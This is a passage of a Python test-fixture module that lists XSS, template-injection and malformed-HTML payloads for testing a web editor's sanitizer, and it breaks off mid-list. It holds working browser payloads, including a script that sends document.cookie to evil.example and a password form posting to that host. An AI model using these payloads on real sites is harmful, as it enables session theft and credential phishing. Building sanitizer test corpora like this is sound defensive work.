"""A corpus of hostile and messy input for every field an editor can type into.

Written for this project (nothing downloaded): what an attacker, a careless
copy-paste or Microsoft Word could put in a title, a summary, the rich-text
body, a reference, an author's profile, a section or a tag. Each family below
is a list of strings; ``PAYLOADS`` is every one of them once, in order, as
``Payload(number, family, text)``.

Most payloads call ``alert(1)``; what makes one "work" is a real browser running
it, so the tests never look for the word ``alert`` but for what a browser would
run: ``<script>``, ``on*`` attributes, ``javascript:``/``vbscript:``/``data:``
URLs, dangerous elements and CSS.
"""

from dataclasses import dataclass

# Some payloads are about these characters; spelled out so the source stays readable.
NUL = "\x00"
TAB = "\t"
LF = "\n"
CR = "\r"
VT = "\x0b"
FF = "\x0c"
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
PDF = "\u202c"  # POP DIRECTIONAL FORMATTING
LRE = "\u202a"
RLM = "\u200f"
ZWSP = "\u200b"
ZWJ = "\u200d"
BOM = "\ufeff"
LS = "\u2028"  # LINE SEPARATOR
PS = "\u2029"
IDEOGRAPHIC_SPACE = "\u3000"

ARABIC_BEFORE = "قال الباحث في تقدير الموقف: "
ARABIC_AFTER = " وهذا ما أكدته المصادر الرسمية في دمشق."

SVG_SCRIPT_B64 = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>
HTML_SCRIPT_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str

    def __str__(self):
        return f"#{self.number} ({self.family}): {self.text!r}"


# --- <script> in many spellings ------------------------------------------------

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\t>alert(1)</script\t>",
    "<script\n>alert(1)</script\n>",
    "<script/>alert(1)</script>",
    "<script/x>alert(1)</script>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="module">alert(1)</script>',
    '<script language="javascript">alert(1)</script>',
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<script>alert(1)",
    "<script>alert(1)//",
    "<script",
    "<script src=https://evil.example/x.js",
    "<<script>alert(1)//<</script>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scrscriptipt>alert(1)</scrscriptipt>",
    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "</script><script>alert(1)</script>",
    "</SCRIPT><SCRIPT>alert(1)</SCRIPT>",
    "</script ><script>alert(1)</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>setTimeout('alert(1)',0)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<script charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<math><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<script>alert(1)</script><!--",
    '<script src="/static/js/share.js"></script>',
    '<script type="application/ld+json">{"@type":"Person"}</script>',
]

# --- Event handlers on many elements ------------------------------------------

_HANDLER_ELEMENTS = [
    ("img", "src=x onerror=alert(1)"),
    ("img", "src=x oNeRrOr=alert(1)"),
    ("img", 'src="x" onerror="alert(1)"'),
    ("img", "src='x' onerror='alert(1)'"),
    ("img", "src=x onerror  =  alert(1)"),
    ("img", "src=x onerror\n=alert(1)"),
    ("img", "src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)"),
    ("img", "src=x onerror=alert&lpar;1&rpar;"),
    ("img", "src=x:alert(alt) onerror=eval(src) alt=0"),
    ("img", "/src/onerror=alert(1)"),
    ("img", "src=x onload=alert(1) onerror=alert(2)"),
    ("img", "src=x onerror=alert`1`"),
    ("svg", "onload=alert(1)"),
    ("svg", "/onload=alert(1)"),
    ("svg", "onload=alert(1)//"),
    ("body", "onload=alert(1)"),
    ("body", "onpageshow=alert(1)"),
    ("body", "onhashchange=alert(1)"),
    ("body", "onfocus=alert(1)"),
    ("iframe", "onload=alert(1)"),
    ("iframe", "src=x onerror=alert(1)"),
    ("details", "open ontoggle=alert(1)"),
    ("video", "src=x onerror=alert(1)"),
    ("video", "autoplay onplay=alert(1)"),
    ("audio", "src=x onerror=alert(1)"),
    ("audio", "autoplay onloadstart=alert(1) src=x"),
    ("marquee", "onstart=alert(1)"),
    ("marquee", "behavior=alternate onbounce=alert(1)"),
    ("input", "autofocus onfocus=alert(1)"),
    ("input", "type=image src=x onerror=alert(1)"),
    ("input", "onblur=alert(1) autofocus"),
    ("select", "autofocus onfocus=alert(1)"),
    ("textarea", "autofocus onfocus=alert(1)"),
    ("keygen", "autofocus onfocus=alert(1)"),
    ("button", "autofocus onfocus=alert(1)"),
    ("div", "onmouseover=alert(1)"),
    ("div", "onpointerenter=alert(1)"),
    ("div", 'style="animation-name:spin" onanimationstart=alert(1)'),
    ("div", "ontransitionend=alert(1)"),
    ("span", "onclick=alert(1)"),
    ("x", "onclick=alert(1)"),
    ("p", "onmouseover=alert(1)"),
    ("p", "onwheel=alert(1)"),
    ("h2", "onclick=alert(1)"),
    ("h3", "onfocusin=alert(1) tabindex=1"),
    ("a", 'href="https://example.org" onmouseover="alert(1)"'),
    ("a", "onclick=alert(1)"),
    ("strong", "onmouseover=alert(1)"),
    ("em", "oncopy=alert(1)"),
    ("b", "onauxclick=alert(1)"),
    ("blockquote", "oncut=alert(1)"),
    ("ol", "start=1 onclick=alert(1)"),
    ("li", "onmouseenter=alert(1)"),
    ("ul", "onscroll=alert(1)"),
    ("sup", "onpaste=alert(1)"),
    ("table", "onmouseover=alert(1)"),
    ("td", "onclick=alert(1)"),
    ("form", "onsubmit=alert(1)"),
    ("object", "data=x onerror=alert(1)"),
    ("style", "onload=alert(1)"),
    ("link", "rel=stylesheet href=x onload=alert(1)"),
    ("frameset", "onload=alert(1)"),
    ("dialog", "open onclose=alert(1)"),
    ("summary", "onclick=alert(1)"),
    ("source", "onerror=alert(1)"),
    ("track", "onerror=alert(1)"),
]
EVENT_HANDLERS = [f"<{tag} {attrs}>" for tag, attrs in _HANDLER_ELEMENTS] + [
    "<video><source onerror=alert(1)></video>",
    "<audio><source src=x onerror=alert(1)></audio>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=alert(1) attributename=x to=y></svg>",
    "<svg><discard onbegin=alert(1)></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<form><button onclick=alert(1)>إرسال</button></form>",
    "<img src=1 onerror=alert(1)//",
    '<img src="x" onerror="alert(1)"',
    "<p>نص عادي</p><img src=x onerror=alert(1)><p>نص آخر</p>",
    '<a href="https://example.org" onfocus="alert(1)" autofocus>رابط</a>',
    '<p style="x" onmouseover="alert(1)">فقرة</p>',
]

# --- Dangerous URL schemes in URL attributes, with obfuscation ----------------

DANGEROUS_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "\x01javascript:alert(1)",
    "jav\tascript:alert(1)",
    "jav\nascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#9;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "java\x00script:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "javascript:alert(document.domain)//https://example.org",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,<script>alert(1)</script>",
    "data:text/html;base64," + HTML_SCRIPT_B64,
    "data:image/svg+xml;base64," + SVG_SCRIPT_B64,
    "data:application/javascript,alert(1)",
    "data:,alert(1)",
    " data:text/html,<svg onload=alert(1)>",
]

_URL_CONTEXTS = [
    '<a href="{}">رابط</a>',
    "<a href={}>x</a>",
    "<a href='{}' title='t'>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button form=f formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><text x=20 y=20>x</text></a></svg>',
    '<math><a xlink:href="{}">x</a></math>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
]
# Every dangerous URL in a link (the one element the body keeps), and a spread
# of them in every other URL-bearing element.
URL_SCHEMES = [_URL_CONTEXTS[0].format(url) for url in DANGEROUS_URLS] + [
    context.format(DANGEROUS_URLS[(i * 7) % len(DANGEROUS_URLS)])
    for i, context in enumerate(_URL_CONTEXTS[1:], start=1)
]
URL_SCHEMES += [
    '<a href="https://example.org" href="javascript:alert(1)">x</a>',
    '<a href="javascript:alert(1)" href="https://example.org">x</a>',
    '<a href="https://example.org/x" title="javascript:alert(1)">x</a>',
    '<a href="mailto:x@example.org?body=javascript:alert(1)">x</a>',
    '<a href="https:javascript:alert(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<a href="https://example.org/%22%3E%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    '<a href="https://example.org/\u202egpj.exe">صورة</a>',
    '<a href="javascript:alert(1)"><img src=x></a>',
    '<area href="javascript:alert(1)">',
    '<input type=image src="javascript:alert(1)">',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"><td>x</td></table>',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    '<isindex action="javascript:alert(1)" type=submit value=click>',
    '<a ping="https://evil.example/log" href="https://example.org">x</a>',
]

# Plain URLs, as typed into a URL field (a reference's or an author's website).
URL_FIELD_VALUES = [
    *DANGEROUS_URLS,
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/?q=<script>alert(1)</script>",
    'https://example.org/#"onmouseover="alert(1)',
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/`onmouseover=alert(1)",
    "https://example.org/\u202egpj.exe",
    "https://example.org/" + NUL + "<script>",
    "//evil.example/x.js",
    "https://evil.example/x.js",
    "http://example.org/</a><img src=x onerror=alert(1)>",
    "https://user:pass@evil.example/",
    "ftp://example.org/x",
    "file:///etc/passwd",
    "https://مثال.سوريا/صفحة",
    "example.org/path",
]

# --- CSS: style attributes and style elements ----------------------------------

STYLES = [
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
    '<p style="background-image:url(&quot;javascript:alert(1)&quot;)">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="width:EXPRESSION(alert(1))">x</div>',
    '<div style="x:expr/**/ession(alert(1))">x</div>',
    '<div style="x:\\65xpression(alert(1))">x</div>',
    '<div style="x:ex\\pression(alert(1))">x</div>',
    '<img style="xss:expression(alert(1))">',
    '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
    '<div style="behavior:url(https://evil.example/x.htc)">x</div>',
    '<span style="list-style-image:url(javascript:alert(1))">x</span>',
    '<p style="color:red;background:url(data:text/html,alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">clickjack</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{behavior:url(x.htc)}</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<style>a{color:red}</style><p>نص</p>",
    "<style>/*</style><img src=x onerror=alert(1)>*/</style>",
    "<style><img src=x onerror=alert(1)></style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>",
]

# --- Broken and unclosed markup -----------------------------------------------

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    '<a href="javascript:alert(1)',
    '<p title="',
    "<p title='",
    "<p title=`",
    "<<img src=x onerror=alert(1)>>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=x onerror=alert(1)//",
    "</p><script>alert(1)</script><p>",
    "<b <script>alert(1)</script>0",
    "<a href=javascript:alert(1)//",
    '<div =""><img src=x onerror=alert(1)>',
    "<table><td><script>alert(1)</script>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<p><p><p><b><i><u>نص غير مغلق",
    "</b></i></p></div></body></html>",
    "<br/><br /><br<br>",
    "<a>nested <a href=javascript:alert(1)>x</a></a>",
    "<ul><li>واحد<li>اثنان<ol><li>ثلاثة",
    "<h2><h3>عنوان</h2></h3>",
    "<<>><><</>",
    "<",
    ">",
    "&",
    "&amp",
    "&#",
    "&#x;",
    "&lt;",
    '"',
    "'",
    "<img src=`x`onerror=alert(1)>",
    '<img src=x onerror="alert(1)"/ >',
    "<img\nsrc=x\nonerror=alert(1)\n>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<a\x0bhref=javascript:alert(1)>x</a>",
    "<p/onmouseover=alert(1)>x</p>",
    "<p\\onmouseover=alert(1)>x</p>",
    '<a href="https://example.org""onclick=alert(1)>x</a>',
]

# --- Breaking out of attributes, elements and scripts --------------------------

ATTRIBUTE_BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "'onmouseover=alert(1) x='",
    '"onmouseover=alert(1) x="',
    '" autofocus onfocus="alert(1)',
    '"/><svg/onload=alert(1)>',
    "` onmouseover=alert(1) `",
    '"style="background:url(javascript:alert(1))',
    '" href="javascript:alert(1)',
    '" content="0;url=javascript:alert(1)" http-equiv="refresh',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</a><script>alert(1)</script>",
    "</cite><script>alert(1)</script>",
    "</h1><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '"}]</script><script>alert(1)</script>',
    '\\"</script><script>alert(1)</script>',
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '"},"@type":"Person","name":"x',
    '"; alert(1); var x="',
    "'; alert(1); var x='",
    "</script><!--<script>",
    "</ScRiPt\t>",
    '«"><img src=x onerror=alert(1)>»',
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    '"></a><a href="javascript:alert(1)">',
    'x" data-share-url="javascript:alert(1)',
]

# --- Template and expression injection ---------------------------------------

TEMPLATE_INJECTION = [
    "{{ 7|add:7 }}",
    "{{7*7}}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.META }}",
    "{{ settings.SECRET_KEY }}",
    '{% include "base.html" %}',
    "{% csrf_token %}",
    "{{ block.super }}",
    "{% endblock %}{% block content %}",
    "{# comment #}",
    "{% verbatim %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}",
    "{{''.__class__.__mro__}}",
    "%(name)s %s {0} {}",
    "%s%s%s%s%s%n",
    "{% trans 'x' %}{% blocktranslate %}y{% endblocktranslate %}",
    "{{ '<script>alert(1)</script>'|safe }}",
]

# --- Comments, CDATA, processing instructions ---------------------------------

COMMENTS_AND_CDATA = [
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- <script>alert(1)</script> -->",
    "<? echo 1 ?><script>alert(1)</script>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<!DOCTYPE html><script>alert(1)</script>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
    "--!><img src=x onerror=alert(1)>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<!>",
    "<!x><img src=x onerror=alert(1)>",
]

# --- Mutation XSS: markup that changes meaning when parsed twice --------------

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<style><p title="</style><img src=x onerror=alert(1)>">',
    '<a title="&lt;img src=x onerror=alert(1)&gt;" href="https://example.org">x</a>',
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<table><caption><svg><title><table><td><img src=x onerror=alert(1)>",
    '<svg><desc><table><td><img src=x onerror="alert(1)"></td></table></desc></svg>',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    '<div><template><s><a href="javascript:alert(1)">x</a></s></template></div>',
    # Aimed at the footnote linker, which rewrites "[n]" in the text after sanitizing.
    '<a href="https://example.org" title="x></a>[1]<img src=x onerror=alert(1)>">t</a>',
    '<a href="https://example.org" title="[1]" onclick="alert(1)">[2]</a>',
    '<ol start="1>[1]<img src=x onerror=alert(1)>"><li>بند</li></ol>',
    '<p>[1]" onmouseover="alert(1)</p>',
    '<p>نص[1]<b>[2]</b><a href="https://example.org">[3]</a></p>',
    "<p>[1]<script>alert(1)</script>[2]</p>",
    "<p>&lt;a href=&quot;javascript:alert(1)&quot;&gt;[1]&lt;/a&gt;</p>",
    # Aimed at the language marker, which rewrites blocks after sanitizing.
    "<p>English text <img src=x onerror=alert(1)> in an Arabic page</p>",
    "<blockquote><p>Quoted English</p><p>نص عربي</p></blockquote>",
    "<p><p>English<img src=x onerror=alert(1)></p></p>",
    '<p dir="ltr" lang="en" onclick="alert(1)">English</p>',
    "<h2>Heading</h2 onclick=alert(1)>",
]

# --- Microsoft Word and Google Docs HTML --------------------------------------

WORD_HTML = [
    "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/>"
    "</o:OfficeDocumentSettings></xml><![endif]-->"
    "<p class=MsoNormal dir=RTL style='mso-margin-top-alt:auto;mso-bidi-font-family:"
    "\"Simplified Arabic\"'><span lang=AR-SY style='font-size:14.0pt;mso-bidi-language:"
    "AR-SY'>انضمام سورية إلى التحالف الدولي<o:p></o:p></span></p>",
    "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]>"
    "<span style='mso-list:Ignore'>1.<span style='font:7.0pt \"Times New Roman\"'>"
    "&nbsp;&nbsp;</span></span><![endif]>البند الأول<o:p></o:p></p>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->",
    "<v:shape style='width:1pt;behavior:url(#default#VML)'><v:imagedata "
    'src="javascript:alert(1)" o:title=""/></v:shape>',
    "<w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom></w:WordDocument>",
    '<meta name=Generator content="Microsoft Word 15 (filtered medium)">',
    '<meta http-equiv=Content-Type content="text/html; charset=windows-1256">',
    '<style><!-- /* Font Definitions */ @font-face {font-family:"Cambria Math";} '
    "p.MsoNormal {mso-style-unhide:no;margin:0cm;} --></style>",
    "<span style='mso-element:field-begin'></span><span style='mso-spacerun:yes'>"
    "</span>HYPERLINK &quot;javascript:alert(1)&quot;<span style='mso-element:field-end'>"
    "</span>",
    '<a name="_Hlk123456">مرساة</a><a href="#_ftn1" name="_ftnref1" title="">'
    "<span class=MsoFootnoteReference>[1]</span></a>",
    "<p style='mso-special-character:line-break;page-break-before:always'><br "
    "clear=all style='mso-special-character:line-break'></p>",
    '<html xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:w="urn:schemas-microsoft-com:office:word"><body lang=AR-SY>'
    "<!--StartFragment-->نص منسوخ من وورد<!--EndFragment--></body></html>",
    "<xml><w:data>0M8R4KGxGuEAAAAAAAAAAAAAAAAAAAAA</w:data></xml>",
    '<b style="font-weight:normal;" id="docs-internal-guid-1a2b3c4d-7fff-1234">'
    '<p dir="rtl" style="line-height:1.38;margin-top:0pt;"><span style="font-size:11pt;'
    'font-family:Arial;color:#000000;">نص من مستندات غوغل</span></p></b>',
    '<span style="font-family:&quot;Times New Roman&quot;,serif;mso-fareast-font-family:'
    '&quot;Times New Roman&quot;">نص</span>',
    "<p class=MsoNormal>Text with a soft line break" + VT + "and a page break" + FF + "</p>",
    "<o:p>&nbsp;</o:p><o:p onmouseover=alert(1)>x</o:p>",
    "<p class=MsoNormal align=center style='text-align:center'><b><span lang=EN-US "
    "dir=LTR style='font-size:16.0pt'>Executive Summary</span></b></p>",
    "<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0><tr><td width=301 "
    "valign=top style='border:solid windowtext 1.0pt'><p class=MsoNormal>خلية</p></td>"
    "</tr></table>",
]

# --- SVG and MathML namespaces ----------------------------------------------

SVG_MATHML = [
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,' + SVG_SCRIPT_B64 + '#x"/></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'
    "</iframe></foreignObject></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)'
    "</handler></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<svg><feImage href="javascript:alert(1)"/></svg>',
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    '<svg width="100" height="100"><circle cx="50" cy="50" r="40" onclick="alert(1)"/></svg>',
    "<svg><style>@import url(javascript:alert(1))</style></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<svg><animate xlink:href=#x attributeName=href from=javascript:alert(1) to=1 />"
    "<a id=x><text x=20 y=20>x</text></a></svg>",
]

# --- Elements that must never come from content ------------------------------

DANGEROUS_ELEMENTS = [
    '<base href="https://evil.example/">',
    '<base href="javascript:alert(1)//">',
    '<base target="_blank">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,' + HTML_SCRIPT_B64 + '">',
    '<meta http-equiv="Set-Cookie" content="sessionid=x">',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    '<meta charset="utf-7">',
    '<form action="https://evil.example/"><input name=password type=password>'
    "<button>دخول</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<form><input name=username><input type=password name=password></form>",
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,' + HTML_SCRIPT_B64 + '"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
    '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,' + SVG_SCRIPT_B64 + '" type="image/svg+xml">',
    '<embed code="https://evil.example/x.swf" allowscriptaccess=always>',
    '<link rel="import" href="https://evil.example/x.html">',
    '<link rel="prefetch" href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    '<portal src="https://evil.example/"></portal>',
    "<dialog open>مربع حوار</dialog>",
    '<input type="hidden" name="csrfmiddlewaretoken" value="x">',
    '<img src="https://evil.example/track.gif" width=1 height=1>',
    '<html manifest="https://evil.example/x.appcache">',
    '<body background="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<a href="https://example.org" target="_blank">نافذة جديدة</a>',
    '<a href="https://example.org" download>تنزيل</a>',
    "<marquee>نص متحرك</marquee><blink>نص</blink>",
    '<video controls src="https://evil.example/x.mp4"></video>',
    "<canvas id=c></canvas>",
    '<div contenteditable="true">قابل للتحرير</div>',
    '<div id="main" class="page">بديل</div>',
    "<h1>عنوان إضافي</h1>",
]

# --- Encodings -----------------------------------------------------------------

ENCODINGS = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&#0000060;script&#0000062;alert(1)",
    "&LT;script&GT;alert(1)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth < >
    "\u02c2script\u02c3alert(1)",  # modifier letter arrowheads
    "\xbcscript\xbealert(1)\xbc/script\xbe",  # the US-ASCII 7-bit trick
    HTML_SCRIPT_B64,
    "<\u0455cript>alert(1)</\u0455cript>",  # Cyrillic dze for s
    "<\u017fcript>alert(1)</\u017fcript>",  # long s: uppercases to S
    "<scr\u0131pt>alert(1)</scr\u0131pt>",  # dotless i: uppercases to I
    '\\"><script>alert(1)</script>',
    "&#x26;lt;script&#x26;gt;",
    "<img src=x onerror=\\u0061lert(1)>",
    '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>',
]

# --- Unicode, bidi and control characters -------------------------------------

UNICODE_TRICKS = [
    "<img src=x " + RLO + "onerror=alert(1)>",
    RLO + "<script>alert(1)</script>",
    '<a href="' + RLO + 'javascript:alert(1)">x</a>',
    "نص" + RLO + "txt.exe" + PDF + " عادي",
    "مقال " + LRE + "English" + PDF + " عربي",
    RLM + "<script>alert(1)</script>" + RLM,
    BOM + "<script>alert(1)</script>",
    "<scr" + ZWSP + "ipt>alert(1)</scr" + ZWSP + "ipt>",
    "<img src=x on" + ZWJ + "error=alert(1)>",
    "<script>" + LS + "alert(1)" + PS + "</script>",
    LS + PS + "سطر" + LS + "سطر",
    "<scr" + NUL + "ipt>alert(1)</scr" + NUL + "ipt>",
    "<img src=x onerror" + NUL + "=alert(1)>",
    NUL + "<script>alert(1)</script>",
    '<a href="java' + NUL + 'script:alert(1)">x</a>',
    "نص" + NUL + "عربي",
    "%00<script>alert(1)</script>",
    "<img src=x onerror=alert(1)" + IDEOGRAPHIC_SPACE + ">",
    "title" + VT + "with vertical tab",
    "form" + FF + "feed",
    "bell\x07 and escape\x1b[31m red",
    "del\x7f and c1\x85\x9b controls",
    "line" + CR + LF + "break" + CR + "carriage",
    "\ud7ff\ue000\uffff\U0001f600\U0010ffff",
    "\u2066\u2067\u2068isolates\u2069",
